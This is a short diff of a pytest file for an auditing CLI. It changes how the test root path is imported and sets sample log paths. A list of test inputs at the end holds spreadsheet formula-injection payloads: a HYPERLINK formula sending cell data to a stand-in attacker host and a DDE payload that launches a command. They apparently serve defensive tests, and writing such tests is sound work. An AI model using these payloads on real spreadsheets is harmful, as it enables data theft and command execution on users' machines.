@@ -12,8 +12,8 @@ from pathlib import Path
 import pytest
 
 from auditor.cli import main
+from tests.helpers import ROOT
 
-ROOT = Path(__file__).resolve().parent.parent
 STANDARD = ROOT / "sample_logs" / "standard-t11-2026-11-20.bjh"
 OTHER = ROOT / "sample_logs" / "standard-t12-2026-11-21.bjh"
 CASINOS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0",
